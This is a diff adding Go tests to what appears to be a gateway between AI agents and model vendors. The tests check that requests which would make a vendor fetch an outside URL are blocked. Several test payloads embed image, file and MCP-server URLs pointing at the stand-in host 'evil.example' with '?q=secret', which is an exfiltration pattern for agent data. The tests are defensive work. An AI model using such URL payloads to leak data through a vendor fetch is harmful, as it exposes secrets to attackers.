@@ -70,6 +70,70 @@ func TestToolsOfTheVendorMustBeInForce(t *testing.T) {
 	}
 }
 
+const picture = `{"role":"user","content":[{"type":"text","text":"Look."},{"type":"image_url","image_url":{"url":"https://evil.example/?q=secret"}}]}`
+
+// TestVendorFetchesNothingThatMayNotGoOut: who chooses an address says something to whoever is there.
+func TestVendorFetchesNothingThatMayNotGoOut(t *testing.T) {
+	closed := open(t)
+	closed.vendor.answers(say("done"))
+	a := closed.agent("a")
+	if message := a.says(picture).failure(403, "unknown_tool"); !strings.Contains(message, "The vendor would use url") {
+		t.Errorf("told %q", message)
+	}
+	a.do("/claude/v1/messages", `{"model":"m","max_tokens":10,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/"}}]}]}`).wants(403)
+	a.do("/vendor/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/"}]}]}`).wants(403)
+	a.do("/vendor/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/"}]}]}`).wants(403)
+	a.do("/vendor/v1/responses/input_tokens", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/"}]}]}`).wants(403)
+	if got := closed.vendor.asked(); len(got) != 0 {
+		t.Fatalf("the vendor got %v", got)
+	}
+	a.says(strings.Replace(picture, "https://evil.example/?q=secret", "data:image/png;base64,AAAA", 1)).wants(200)
+
+	r := openWith(t, stockOf(t, true), usual)
+	r.vendor.answers(say("done"))
+	clean, met := r.agent("a"), r.agent("b")
+	clean.says(picture).wants(200)
+	if v := clean.view(); v.Exposure != (kernel.Exposure{Level: kernel.Public, Integrity: kernel.Untrusted}) || v.Flights.Len() != 0 {
+		t.Errorf("the agent has met %v", v.Exposure)
+	}
+	met.meets(kernel.Sensitive, kernel.Verified)
+	met.says(picture).failure(403, "2a")
+	if got := r.vendor.asked(); len(got) != 1 {
+		t.Errorf("the vendor was asked %d times", len(got))
+	}
+}
+
+// TestWhatIsCountedIsReadLikeARequest: a vendor looks at all of it, and a count is no way past what a request may hold.
+func TestWhatIsCountedIsReadLikeARequest(t *testing.T) {
+	r := open(t)
+	r.vendor.answers(func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Type", mediaJSON)
+		io.WriteString(w, `{"input_tokens":7}`)
+	})
+	a := r.agent("a")
+	const path = "/claude/v1/messages/count_tokens"
+	a.do(path, `{"model":"m","messages":[{"role":"user","content":"Hi."}],"mcp_servers":[{"type":"url","name":"x","url":"https://evil.example/?q=secret"}]}`).wants(403)
+	a.do(path, `{"model":"m","messages":[{"role":"user","content":"Hi."}],"other":1}`).wants(400)
+	b := r.agent("b")
+	b.meets(kernel.Restricted, kernel.Untrusted)
+	b.do(path, `{"model":"m","messages":[{"role":"user","content":"Hi."}]}`).wants(403)
+	if got := r.vendor.asked(); len(got) != 0 {
+		t.Fatalf("the vendor got %v", got)
+	}
+	if g := a.do(path, `{"model":"m","messages":[{"role":"user","content":"Hi."}]}`).wants(200); g.body != `{"input_tokens":7}` {
+		t.Errorf("got %s", g.body)
+	}
+	a.do("/vendor/v1/responses/input_tokens", `{"model":"m","input":"Hi."}`).wants(200)
+	if v := a.view(); v.Exposure != kernel.Clean() {
+		t.Errorf("what no model has heard: the agent has met %v", v.Exposure)
+	}
+	r.vendor.answers(say("done"))
+	a.says(user("Hi.")).wants(200)
+	if v := a.view(); v.Exposure != kernel.Clean() {
+		t.Errorf("after its first prompt the agent has met %v", v.Exposure)
+	}
+}
+
 // TestFailureOfAToolIsRecordedAsOne: what a client says of its tool is what the journal says of the call.
 func TestFailureOfAToolIsRecordedAsOne(t *testing.T) {
 	var outcomes []kernel.Ending
